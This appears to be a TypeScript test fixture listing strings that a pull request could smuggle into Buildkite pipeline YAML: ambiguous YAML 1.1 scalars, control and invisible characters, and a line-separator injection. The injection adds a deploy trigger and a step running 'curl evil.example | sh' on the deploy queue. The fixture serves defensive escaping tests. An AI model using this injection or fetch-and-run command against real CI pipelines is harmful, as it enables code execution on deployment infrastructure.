/**
 * Strings a pull request can put wherever it controls text: its flake's names and
 * labels, its branch and tag, its commit message. Each is something a YAML 1.1
 * parser of the libyaml family (the Buildkite agent's go-yaml v3) would read
 * otherwise than written if it were left plain or unescaped.
 */

/**
 * The reported injection: a line separator, then indented YAML that adds a trigger
 * into the deploy pipeline and a step on the deploy queue. libyaml reads U+2028,
 * U+2029 and U+0085 as line breaks; YAML 1.2 (the `yaml` package) does not.
 */
export const injection = (separator: string) =>
  [
    "x",
    "  - trigger: deploy",
    "    build:",
    "      env:",
    `        STEP_DATA: '{"version":1,"action":"pwn","steps":[]}'`,
    "  - command: curl evil.example | sh",
    "    agents: {queue: deploy}",
    "  - label: y"
  ].join(separator)

export const lineBreakInjections: ReadonlyArray<string> = ["\u2028", "\u2029", "\u0085"].map(injection)

/** Plain scalars YAML 1.1 resolves to something other than the string: booleans, nulls, numbers, timestamps, merge keys. */
export const yaml11Scalars: ReadonlyArray<string> = [
  "yes", "no", "on", "off", "y", "n", "Y", "N", "Yes", "NO", "On", "OFF", "true", "False", "TRUE",
  "~", "null", "Null", "NULL",
  "2024_01_15", "1_000", "0b101", "0x_1F", "0x1F", "0o17", "017", "+12", "-1", "0", "1:20", "190:20:30",
  ".inf", "-.Inf", "+.INF", ".NaN", "1e3", "1.5", "6.8523015e+5", "1_000.5",
  "2024-01-15", "2001-12-14t21:59:43.10-05:00", "2001-12-14 21:59:43.10 -5",
  "<<", "="
]

/** Everything else that is not plain text: indicators, controls, invisible and non-ASCII characters. */
export const otherHostileText: ReadonlyArray<string> = [
  "tab\there", "cr\rhere", "crlf\r\nhere", "newline\nhere", "bell\u0007", "escape\u001b[31mred", "del\u007f",
  "c1 \u0080 \u009f", "nbsp\u00a0here", "bom\ufeffhere", "\ufeffbom first", "zero\u200bwidth", "bidi\u202eoverride",
  "nonchar\uffff\ufffe", "replacement\ufffd", "soft\u00adhyphen", "emoji 🚀", "astral 𝕏", "é ü ß 中文",
  "quotes \" ' \\ \\\\ \\n", " leading and trailing ", "", " ", "#comment", "key: value", "- item", "&anchor",
  "*alias", "!tag", "!!str x", "%YAML 1.1", "@at", "`tick`", "| block", "> folded", "{flow: map}", "[flow, seq]",
  "? key", "---", "...", ": colon", "trailing:", "a #b", "$HOME ${X} $$ \\$"
]

export const hostileStrings: ReadonlyArray<string> = [...lineBreakInjections, ...yaml11Scalars, ...otherHostileText]
